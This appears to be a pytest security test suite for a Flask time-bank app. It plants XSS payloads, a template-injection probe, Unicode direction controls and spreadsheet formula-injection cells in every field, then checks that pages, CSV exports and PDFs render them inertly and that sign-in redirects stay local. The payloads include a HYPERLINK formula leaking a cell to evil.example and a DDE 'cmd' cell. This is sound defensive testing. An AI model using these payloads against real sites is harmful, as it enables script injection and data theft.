"""Hostile text in every free-text field that reaches a page, walked by everyone who reads it.

Script tags, an image with an ``onerror``, ``javascript:`` links, ``{{7*7}}`` and Unicode's
direction controls are stored in member, supporter, group, bank, programme, grant, skill, user,
token and imported fields (by the domain operations, so nothing typed is cleaned first; the
forms' own cleaning has tests below). Then every page, CSV and PDF is fetched as the
coordinator, the admin, the funder and the members, and each must show the text as text: no
script element, no ``on*`` attribute and no ``javascript:`` address came from the data, ``{{7*7}}``
is never 49, every field is found somewhere as the literal text typed, and no direction
control reaches a page, file or PDF (the app removes them where text comes in and where it goes
out: :mod:`timebank.text`). CSV cells a spreadsheet would run are neutralised.
"""

from __future__ import annotations

import csv
import html
import io
import re
import subprocess
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session
from werkzeug.test import TestResponse

from tests.conftest import PASSWORD
from tests.imports.files import MEMBER_HEADER, csv_text, member_row
from tests.web.test_member_pages import sign_in_member
from tests.web.test_members import registration
from tests.web.test_tenancy import Coordinator, routes
from timebank import audit, cards
from timebank.banks.operations import create_programme
from timebank.exchanges import HelpDetails, record_exchange
from timebank.exchanges.operations import record_pending, reverse_exchange
from timebank.grants.awards import award_grant
from timebank.grants.spending import record_spend
from timebank.imports.csv_safety import FORMULA_STARTS
from timebank.imports.models import ImportBatch
from timebank.members.member_view import add_supporter
from timebank.members.models import Member, MemberKind, Skill
from timebank.members.operations import update_member
from timebank.members.skills import add_bank_skill, add_offer, add_request
from timebank.statements import PAGE_SIZE
from timebank.users import tokens
from timebank.users.models import User
from timebank.web.broker.imports import wait_for_import

#: Unicode's direction controls: embeddings and overrides, then isolates.
DIRECTION_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
#: Each hostile value, as it is tried: the brief's list, and each direction control alone.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
)
#: Where a template run on the text would show 49.
FORTY_NINE = re.compile(r"(alert\(1\)>|</script>|\(1\)//)49")
#: Attributes whose value a browser follows or runs.
ADDRESS_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
#: Attributes whose value a reader sees or hears.
TEXT_ATTRIBUTES = {"value", "title", "alt", "aria-label", "placeholder", "content"}


def everything(tag: str) -> str:
    """Every hostile value in one text of 100 characters or fewer, for a name or a note; the
    ``javascript:`` first, where a link's address would start."""
    return (
        'javascript:alert(1)//<script>alert(1)</script>"><img src=x onerror=alert(1)>{{7*7}}'
        f"\u202e\u2066\u2067\u2068\u2069{tag}"
    )


def link(tag: str) -> str:
    """For a field of 40 characters that could become a link (a phone number)."""
    return f"javascript:alert(1)\u202e{{{{7*7}}}}\u2066{tag}"


def image(tag: str) -> str:
    """For another field of 40 characters."""
    return f'"><img src=x onerror=alert(1)>\u2067{tag}'


def shown(typed: str) -> str:
    """What a reader should see of a typed value: the same text, without direction controls."""
    return DIRECTION_CONTROLS.sub("", typed)


@dataclass
class Planted:
    """A hostile value in one field, and where it was found."""

    name: str
    typed: str
    found_in: set[str] = field(default_factory=set)

    @property
    def shown(self) -> str:
        return shown(self.typed)


@dataclass
class HostileWorld:
    ids: dict[str, int]
    planted: list[Planted]
    users: dict[str, User]
    members: dict[str, Member]
    card_tokens: dict[str, str]

    def plant(self, name: str, typed: str) -> str:
        self.planted.append(Planted(name, typed))
        return typed


#: Cells that a spreadsheet would run, planted where the exports write them.
FORMULAS = {
    "member full name (formula)": '=HYPERLINK("http://evil.example/?"&A1)',
    "member preferred name (formula)": "@SUM(A1:A9)",
    "member phone (formula)": "+44 28 9000 0001",
    "member consent wording (formula)": "-1+1",
    "exchange note (tab formula)": "\t=1+1",
    "exchange note (carriage return formula)": "\r=1+1",
    "budget line (formula)": "+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(session: Session, make_bank, make_member, make_user) -> HostileWorld:
    """A programme and its bank, every free-text field holding hostile text."""
    w = HostileWorld(ids={}, planted=[], users={}, members={}, card_tokens={})
    programme = create_programme(
        session,
        name=w.plant("programme name", everything("#P1")),
        funder=w.plant("programme funder", everything("#P2")),
    )
    bank = make_bank(
        name=w.plant("bank name", everything("#B1")),
        programme=programme,
        focus=w.plant("bank focus", everything("#B2")),
        help_phone=w.plant("bank help phone", link("#B3")),
    )
    joan = make_member(
        bank,
        w.plant("member full name", everything("#M1")),
        display_name=w.plant("member preferred name", everything("#M2")),
        phone=w.plant("member phone", link("#M3")),
        area="BT9",
        supporter_name=w.plant("supporter name", everything("#M4")),
        supporter_phone=w.plant("supporter phone", image("#M5")),
        supporter_relationship="daughter",
        consent_on=bank.today(),
        consent_wording=w.plant("consent wording", everything("#M7")),
    )
    # changed by the operation the edit page uses: the audit trail shows it, before and after
    update_member(
        session,
        joan,
        {"supporter_relationship": w.plant("supporter relationship", everything("#M6"))},
        by=None,
    )
    seamus = make_member(
        bank,
        w.plant("second member full name", everything("#M8")),
        display_name=w.plant("second member preferred name", everything("#M9")),
    )
    lunch = make_member(
        bank,
        w.plant("group name", everything("#G1")),
        display_name=w.plant("group preferred name", everything("#G2")),
        kind=MemberKind.GROUP,
    )
    formula = make_member(
        bank,
        w.plant("member full name (formula)", FORMULAS["member full name (formula)"]),
        display_name=w.plant(
            "member preferred name (formula)", FORMULAS["member preferred name (formula)"]
        ),
        phone=w.plant("member phone (formula)", FORMULAS["member phone (formula)"]),
        consent_wording=w.plant(
            "member consent wording (formula)", FORMULAS["member consent wording (formula)"]
        ),
    )
    skill = add_bank_skill(
        session, bank, w.plant("bank's own kind of help", everything("#S1")), by=None
    )
    add_offer(session, seamus, skill, w.plant("offer note", everything("#S2")), by=None)
    wish = add_request(session, joan, skill, w.plant("request note", everything("#S3")), by=None)
    add_supporter(session, joan, supporter_member=seamus, by=None)
    transfer = record_exchange(
        session,
        provider=seamus,
        receiver=joan,
        help=HelpDetails(
            minutes=60, skill_id=skill.id, note=w.plant("exchange note", everything("#X1"))
        ),
    ).transfer
    for name in ("exchange note (tab formula)", "exchange note (carriage return formula)"):
        record_exchange(
            session,
            provider=formula,
            receiver=lunch,
            help=HelpDetails(minutes=15, skill_id=skill.id, note=w.plant(name, FORMULAS[name])),
        )
    mistake = record_exchange(
        session, provider=joan, receiver=seamus, help=HelpDetails(minutes=15, skill_id=skill.id)
    ).transfer
    reverse_exchange(session, mistake, w.plant("reversal reason", everything("#X2")))
    pending = record_pending(
        session,
        provider=seamus,
        receiver=joan,
        help=HelpDetails(
            minutes=30, skill_id=skill.id, note=w.plant("waiting help note", everything("#X3"))
        ),
    ).pending
    line_name = w.plant("budget line name", everything("#L1"))
    grant = award_grant(
        session,
        programme,
        bank,
        300_000,
        bank.today(),
        conditions=w.plant("grant conditions", everything("#L2")),
        lines={
            line_name: 50_000,
            w.plant("budget line (formula)", FORMULAS["budget line (formula)"]): 10_000,
        },
        by_user_id=None,
    )
    line = next(line for line in grant.lines if line.name == line_name)
    spent = record_spend(
        session,
        grant,
        line,
        4_500,
        bank.today(),
        payee=w.plant("payee", everything("#L3")),
        receipt_reference=w.plant("receipt reference", everything("#L4")),
        description=w.plant("spending description", everything("#L5")),
        by_user_id=None,
    )
    _card, joan_token = cards.issue_card(session, joan, by_user_id=None)
    _card, seamus_token = cards.issue_card(session, seamus, by_user_id=None)
    session.commit()
    coordinator = make_user(
        "coordinator", banks=[bank], display_name=w.plant("coordinator's name", everything("#U1"))
    )
    tokens.create_token(session, coordinator, w.plant("API token name", everything("#U2")))
    session.commit()
    w.users = {
        "coordinator": coordinator,
        "admin": make_user("admin", display_name=w.plant("admin's name", everything("#U3"))),
        "funder": make_user(
            "funder", programme=programme, display_name=w.plant("funder's name", everything("#U4"))
        ),
    }
    w.members = {"joan": joan, "seamus": seamus, "group": lunch, "formula": formula}
    w.card_tokens = {"joan": joan_token, "seamus": seamus_token}
    w.ids = {
        "bank_id": bank.id,
        "member_id": joan.id,
        "transfer_id": transfer.id,
        "member_skill_id": wish.id,
        "request_id": wish.id,
        "skill_id": skill.id,
        "user_id": coordinator.id,
        "pending_id": pending.id,
        "programme_id": programme.id,
        "grant_id": grant.id,
        "line_id": line.id,
        "spend_id": spent.spend.transfer_id,
    }
    return w


# -- what each answer may and may not show --------------------------------------------------------


class PageReader(HTMLParser):
    """A page as a browser reads it: what would run, and the text a reader sees or hears."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.texts: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.problems.append("a <script> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"an attribute {name}={value[:30]!r} on <{tag}>")
            # browsers skip spaces and control characters before the scheme
            if name in ADDRESS_ATTRIBUTES and re.sub(r"[\x00-\x20]", "", value).lower().startswith(
                "javascript:"
            ):
                self.problems.append(f"{name}={value[:40]!r} on <{tag}>")
            if tag == "img" and name == "src" and value == "x":
                self.problems.append("the planted <img src=x>")
            if name in TEXT_ATTRIBUTES:
                self.texts.append(value)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


@dataclass
class Walk:
    """Everything fetched, and everything wrong with it."""

    planted: list[Planted]
    tmp_path: Path
    answers: Counter[str] = field(default_factory=Counter)
    statuses: Counter[int] = field(default_factory=Counter)
    problems: list[str] = field(default_factory=list)
    server_errors: list[str] = field(default_factory=list)
    neutralised: set[str] = field(default_factory=set)

    def check(self, where: str, response: TestResponse) -> None:
        """Judge one answer by what it is: a page, a CSV file or a PDF."""
        self.statuses[response.status_code] += 1
        if response.status_code >= 500:
            self.server_errors.append(f"{where}: {response.status_code}")
            return
        if response.mimetype == "text/csv":
            self.answers["CSV files"] += 1
            self.check_csv(where, response.data.decode("utf-8-sig"))
        elif response.mimetype == "application/pdf":
            self.answers["PDFs"] += 1
            self.check_pdf(where, response.data)
        elif response.mimetype == "text/html":
            self.answers["pages"] += 1
            self.check_page(where, response.get_data(as_text=True))

    def found(self, where: str, text: str, squeezed: bool = False) -> None:
        """Note which planted values ``text`` shows; ``squeezed`` text has no white space."""
        for planted in self.planted:
            if (re.sub(r"\s+", "", planted.shown) if squeezed else planted.shown) in text:
                planted.found_in.add(where)
        if found := FORTY_NINE.search(text):
            self.problems.append(f"{where}: the template ran: {found.group(0)!r}")
        if DIRECTION_CONTROLS.search(text):
            self.problems.append(f"{where}: a direction control reached the reader")

    def check_page(self, where: str, body: str) -> None:
        reader = PageReader()
        reader.feed(body)
        reader.close()
        self.problems.extend(f"{where}: {problem}" for problem in reader.problems)
        for raw in ("<script>alert(1)", "<img src=x"):
            if raw in body:
                self.problems.append(f"{where}: {raw!r} is in the page unescaped")
        if DIRECTION_CONTROLS.search(body):
            self.problems.append(f"{where}: a direction control is in the page's markup")
        self.found(where, "\x00".join(reader.texts))

    def check_csv(self, where: str, document: str) -> None:
        cells = [cell for row in csv.reader(io.StringIO(document)) for cell in row]
        for cell in cells:
            if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                self.problems.append(f"{where}: a spreadsheet would run {cell[:40]!r}")
            if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
                self.neutralised.add(cell[1:])
        self.found(where, "\x00".join(cells))

    def check_pdf(self, where: str, document: bytes) -> None:
        path = self.tmp_path / f"answer-{sum(self.answers.values())}.pdf"
        path.write_bytes(document)
        text = subprocess.run(
            ["pdftotext", "-raw", "-enc", "UTF-8", str(path), "-"],
            check=True,
            capture_output=True,
            text=True,
        ).stdout
        for marker in (b"/JavaScript", b"/JS ", b"/URI (javascript"):
            if marker in document:
                self.problems.append(f"{where}: the PDF holds {marker!r}")
        # a long name wraps over lines in a table cell: compare without the breaks
        self.found(where, re.sub(r"\s+", "", text), squeezed=True)

    def fetch(self, client: FlaskClient, where: str, url: str, **kwargs: object) -> TestResponse:
        response = client.get(url, **kwargs)
        self.check(where, response)
        return response


def sign_in(app: Flask, person: User) -> FlaskClient:
    client = app.test_client()
    response = client.post("/sign-in", data={"email": person.email, "password": PASSWORD})
    assert response.status_code == 302, response.text
    return client


def with_ids(path: str, ids: dict[str, int]) -> str:
    for name, value in ids.items():
        path = path.replace(f"<int:{name}>", str(value))
    return path.replace("<kind>", "members")


# -- the walk --------------------------------------------------------------------------------------


def import_hostile_spreadsheets(walk: Walk, c: Coordinator, w: HostileWorld) -> list[int]:
    """A members file and an exchanges file with hostile cells, sent through the upload page;
    their previews, which show the refused cells' values, are checked; then their good rows are
    imported, for every other page to show. The ids of their batches."""
    joan, seamus = w.members["joan"], w.members["seamus"]
    members = csv_text(
        MEMBER_HEADER,
        [
            member_row(
                1,
                full_name=w.plant("imported full name", everything("#I1")),
                preferred_name=w.plant("imported preferred name", everything("#I2")),
                consent_wording=w.plant("imported consent wording", everything("#I3")),
            ),
            # refused, and shown beside its problem
            member_row(2, area=w.plant("imported area", everything("#I4"))),
            member_row(3, birth_year=w.plant("imported year of birth", everything("#I5"))),
        ],
    )
    exchanges = csv_text(
        ("date", "provider", "receiver", "minutes", "skill", "note"),
        [
            [
                "2024-03-01",
                seamus.member_number,
                joan.member_number,
                "60",
                "shopping",
                w.plant("imported exchange note", everything("#I6")),
            ],
            [
                "2024-03-01",
                w.plant("imported provider", everything("#I7")),
                joan.member_number,
                "60",
                w.plant("imported kind of help", everything("#I8")),
                "",
            ],
        ],
    )
    batch_ids = []
    for kind, text in (("members", members), ("exchanges", exchanges)):
        response = c.client.post(
            c.at(f"/broker/banks/<int:bank_id>/imports/new/{kind}"),
            data={"file": (io.BytesIO(text.encode("utf-8-sig")), "hostile.csv")},
            content_type="multipart/form-data",
        )
        batch_id = c.moved_to(response, r"/imports/(\d+)$")
        preview = c.at(f"/broker/banks/<int:bank_id>/imports/{batch_id}")
        walk.fetch(c.client, f"coordinator {preview} (preview)", preview)
        batch_ids.append(batch_id)
    for batch_id in batch_ids:
        c.client.post(
            c.at(f"/broker/banks/<int:bank_id>/imports/{batch_id}/start"), data={"rows": "valid"}
        )
        wait_for_import(batch_id)
    c.session.rollback()
    return batch_ids


def walk_as(
    app: Flask, walk: Walk, role: str, client: FlaskClient, ids: dict[str, int], asked: str
) -> None:
    """Every page of the site's url_map this role may open, fetched and judged; for the
    coordinator, once more with ``asked`` in every query string a page reads."""
    for _endpoint, path, method in routes(app):
        if method != "GET":
            continue
        url = with_ids(path, ids)
        response = walk.fetch(client, f"{role} {url}", url)
        page = response.status_code == 200 and response.mimetype == "text/html"
        if role == "coordinator" and page:
            query = {name: asked for name in ("q", "area", "skill", "from", "to", "lang")}
            walk.fetch(client, f"{role} {url} (hostile query)", url, query_string=query)


def walk_member_pages(app: Flask, walk: Walk, w: HostileWorld, session: Session) -> None:
    """The members' own pages, as Joan (who was helped) and Seamus (who helped, and supports
    her), signed in with their cards."""
    joan, seamus = w.members["joan"], w.members["seamus"]
    for who, member, ids in (
        ("joan", joan, {"pending_id": w.ids["pending_id"], "member_id": seamus.id}),
        ("seamus", seamus, {"pending_id": w.ids["pending_id"], "member_id": joan.id}),
    ):
        client = sign_in_member(app.test_client(), session, member)
        for rule in app.url_map.iter_rules():
            if not rule.endpoint.startswith(("member.", "member_auth.")):
                continue
            if "GET" not in (rule.methods or ()):
                continue
            url = with_ids(rule.rule, ids).replace("<token>", w.card_tokens[who])
            walk.fetch(client, f"member {who} {url}", url)
        # the second step of recording help names the kind of help back
        check = client.post(
            "/me/record",
            data={
                "receiver": str(joan.id if who == "seamus" else seamus.id),
                "skill": str(w.ids["skill_id"]),
                "hours": "1",
                "minutes": "0",
                "when": "today",
            },
        )
        walk.check(f"member {who} POST /me/record", check)


def print_cards(walk: Walk, c: Coordinator, w: HostileWorld) -> None:
    """The printable card of Joan, then the PDF of it, made as the card page makes them."""
    url = c.at("/broker/banks/<int:bank_id>/members/<int:member_id>/card")
    printed = c.submit(url)
    walk.check("coordinator POST card", printed)
    pdf = c.submit(c.at("/broker/banks/<int:bank_id>/cards/pdf"), page=printed.text)
    walk.check("coordinator POST cards/pdf", pdf)


def test_hostile_text_is_shown_as_text_everywhere(
    app: Flask, hostile: HostileWorld, session: Session, tmp_path: Path
) -> None:
    w = hostile
    clients = {role: sign_in(app, person) for role, person in w.users.items()}
    c = Coordinator(clients["coordinator"], session, w.ids, w.users["coordinator"])
    walk = Walk(w.planted, tmp_path)
    batch_ids = import_hostile_spreadsheets(walk, c, w)
    asked = w.plant("search words", everything("#Q1"))
    for role in ("coordinator", "admin", "funder"):
        ids = {**w.ids, "import_id": batch_ids[0], "batch_id": batch_ids[0]}
        walk_as(app, walk, role, clients[role], ids, asked)
    for batch_id in batch_ids:
        batch_page = c.at(f"/broker/banks/<int:bank_id>/imports/{batch_id}")
        walk.fetch(c.client, f"coordinator {batch_page}", batch_page)
    print_cards(walk, c, w)
    walk_member_pages(app, walk, w, session)

    print(
        f"\n{len(HOSTILE)} hostile values in {len(w.planted)} fields; "
        f"{walk.answers['pages']} pages, {walk.answers['CSV files']} CSV files and "
        f"{walk.answers['PDFs']} PDFs checked; answers {dict(sorted(walk.statuses.items()))}; "
        f"{len(walk.server_errors)} answered 500"
    )
    assert not walk.server_errors, walk.server_errors
    assert not walk.problems, "\n".join(walk.problems[:40])
    unseen = [p.name for p in w.planted if not p.found_in]
    assert not unseen, f"never shown anywhere, so never checked: {unseen}"
    # each kind of answer was checked with the hostile text in it
    assert walk.answers["pages"] > 150 and walk.answers["CSV files"] >= 4
    assert walk.answers["PDFs"] >= 3
    shown_in = {where.split(" ")[0] for p in w.planted for where in p.found_in}
    assert shown_in >= {"coordinator", "admin", "funder", "member"}
    in_pdfs = {p.name for p in w.planted for where in p.found_in if "pdf" in where}
    assert {"bank name", "programme name", "member full name"} <= in_pdfs, in_pdfs
    # every formula planted where an export writes it came out neutralised
    assert set(FORMULAS.values()) <= walk.neutralised, set(FORMULAS.values()) - walk.neutralised


# -- where text comes in ---------------------------------------------------------------------------


def test_forms_store_text_without_direction_controls(
    client: FlaskClient, broker, session: Session
) -> None:
    browser, bank, _ = broker
    typed = "Ann\u202e Byrne\u2066\u2067\u2068\u2069"
    data = registration(bank, full_name=typed, supporter_name="Mary \u202eByrne")
    response = browser.post(f"/broker/banks/{bank.id}/members/new", data=data)
    assert response.status_code == 302, response.text
    added = browser.post(f"/broker/banks/{bank.id}/skills", data={"name": "Bee\u202e keeping"})
    assert added.status_code == 302, added.text
    session.rollback()
    member = session.scalars(select(Member).where(Member.bank_id == bank.id)).one()
    assert (member.full_name, member.supporter_name) == ("Ann Byrne", "Mary Byrne")
    assert session.scalars(select(Skill.name).where(Skill.bank_id == bank.id)).one() == (
        "Bee keeping"
    )


def test_an_imported_cell_is_stored_without_direction_controls(broker, session: Session) -> None:
    browser, bank, _ = broker
    text = csv_text(MEMBER_HEADER, [member_row(1, full_name="Ann\u202e Byrne\u2069")])
    response = browser.post(
        f"/broker/banks/{bank.id}/imports/new/members",
        data={"file": (io.BytesIO(text.encode()), "people.csv")},
        content_type="multipart/form-data",
    )
    batch_id = int(re.search(r"/imports/(\d+)$", response.headers["Location"]).group(1))
    browser.post(f"/broker/banks/{bank.id}/imports/{batch_id}/start", data={"rows": "all"})
    wait_for_import(batch_id)
    session.rollback()
    assert session.scalars(select(Member.full_name).where(Member.bank_id == bank.id)).one() == (
        "Ann Byrne"
    )
    assert session.get(ImportBatch, batch_id).status == "done"


@pytest.mark.parametrize("area", ["<script>", '"><img', "{{7*7}}", "BT9\u202e", "javascript:"])
def test_a_hostile_area_is_refused_by_the_member_form(broker, session: Session, area: str) -> None:
    browser, bank, _ = broker
    response = browser.post(
        f"/broker/banks/{bank.id}/members/new", data=registration(bank, area=area)
    )
    if area == "BT9\u202e":  # the control goes, and BT9 is a postcode district
        assert response.status_code == 302
        session.rollback()
        assert session.scalars(select(Member.area).where(Member.bank_id == bank.id)).one() == "BT9"
        return
    assert response.status_code == 200
    assert "Enter the first half of a postcode" in response.text
    reader = PageReader()
    reader.feed(response.text)
    assert not reader.problems, reader.problems
    # given back in the field as text, in capitals as every postcode is kept
    assert area.upper() in reader.texts
    session.rollback()
    assert session.scalars(select(Member).where(Member.bank_id == bank.id)).all() == []


@pytest.mark.parametrize(
    "next_page", ["javascript:alert(1)", "//evil.example", "/\t/evil.example", "/\\evil.example"]
)
def test_signing_in_never_sends_the_browser_to_a_hostile_address(
    client: FlaskClient, make_user, next_page: str
) -> None:
    person = make_user("coordinator")
    response = client.post(
        "/sign-in",
        query_string={"next": next_page},
        data={"email": person.email, "password": PASSWORD},
    )
    assert response.status_code == 302
    location = re.sub(r"[\x00-\x20]", "", response.headers["Location"])
    assert location.startswith("/") and not location.startswith(("//", "/\\")), location
    assert "evil.example" not in location and "javascript" not in location.lower()


@pytest.mark.parametrize(
    "query",
    [
        {"_external": "1", "_scheme": "javascript"},
        {"endpoint": "x"},
        {"_method": "POST"},
        {"_anchor": "x", "who": "<script>alert(1)</script>"},
    ],
    ids=["scheme", "endpoint", "method", "anchor"],
)
def test_the_pager_keeps_the_query_as_it_came_never_as_url_for_arguments(
    broker, session: Session, query: dict[str, str]
) -> None:
    browser, bank, _ = broker
    for n in range(PAGE_SIZE + 1):  # two pages of the audit trail
        audit.record(session, "test.event", user_id=None, bank_id=bank.id, subject=f"test:{n}")
    session.commit()
    response = browser.get(f"/broker/banks/{bank.id}/audit", query_string=query)
    assert response.status_code == 200
    reader = PageReader()
    reader.feed(response.text)
    assert not reader.problems, reader.problems
    found = re.search(r'href="([^"]*[?&]page=2[^"]*)"', response.text)
    assert found, "the link to the second page"
    link = urlsplit(html.unescape(found.group(1)))
    assert (link.scheme, link.netloc, link.path) == ("", "", f"/broker/banks/{bank.id}/audit")
    assert parse_qs(link.query) == {"page": ["2"], **{k: [v] for k, v in query.items()}}
